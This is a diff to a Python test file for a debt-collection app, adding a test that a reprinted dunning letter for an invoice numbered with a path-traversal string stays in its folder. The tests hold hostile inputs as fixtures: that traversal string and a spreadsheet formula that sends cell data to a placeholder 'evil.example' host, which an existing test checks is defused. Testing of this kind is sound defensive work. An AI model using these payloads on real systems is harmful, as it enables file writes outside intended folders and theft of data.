@@ -20,12 +20,15 @@ import pytest
 
 from tests.collection_samples import CREDITOR, PERSON, case
 from tests.conftest import SHARED_DOCS
-from tui_inkasso.db.models import Owner, Voucher, VoucherRow
+from tests.test_dunning_service import DEMAND, REMINDER, invoice
+from tui_inkasso.db.models import Invoice, Owner, Voucher, VoucherRow
 from tui_inkasso.fileio import FileNameError, file_in, identifier_problem, name_part
 from tui_inkasso.formats.case_file import render_case_file, write_case_file
 from tui_inkasso.formats.layout import builtin_layout_path, parse_layout
 from tui_inkasso.formats.ledger_json import parse_json, read_ledger
 from tui_inkasso.formats.text import FORMULA_TRIGGERS
+from tui_inkasso.services import dunning_levels, dunning_reprint, dunning_run
+from tui_inkasso.services.settings import set_setting
 from tui_inkasso.services.sie_export import export_sie
 
 TRAVERSAL = "/../../../../x/\x1b"
@@ -119,3 +122,22 @@ def test_the_svea_csv_defuses_names_a_spreadsheet_would_run_as_formulas() -> Non
     assert rows[1][5] == '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
     assert (rows[1][6], rows[1][8]) == ("'+46 8 123", "'@SUM(A1)")
     assert all(not value.startswith(FORMULA_TRIGGERS) for row in rows for value in row[1:] if value[:1] != "-")
+
+
+def test_a_reprint_of_an_invoice_numbered_like_a_path_stays_in_the_letters_folder(
+    sqlite_url: str, tmp_path: Path
+) -> None:
+    dunning_levels.save_levels([REMINDER, DEMAND])
+    letters = tmp_path / "a" / "b" / "brev"
+    set_setting("dunning.letters_dir", str(letters))
+    stored = invoice("9001")
+    # the number as an earlier import stored it, before invoice numbers were checked
+    Invoice.update(number=TRAVERSAL).where(Invoice.id == stored.id).execute()
+    result = dunning_run.run_dunning(dt.date(2026, 7, 2), out_dir=letters)
+    notice_id = result.notices[0].notice_id
+    path = dunning_reprint.default_reprint_path(notice_id)
+    assert path == letters / "aterutskrift-x_-niva1.pdf"
+    dunning_reprint.print_notice(notice_id, path, to_printer=False)
+    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*.pdf")) == [
+        Path("a/b/brev") / path.name, Path("a/b/brev") / result.pdf_path.name]
+    assert not (tmp_path / "x").exists()
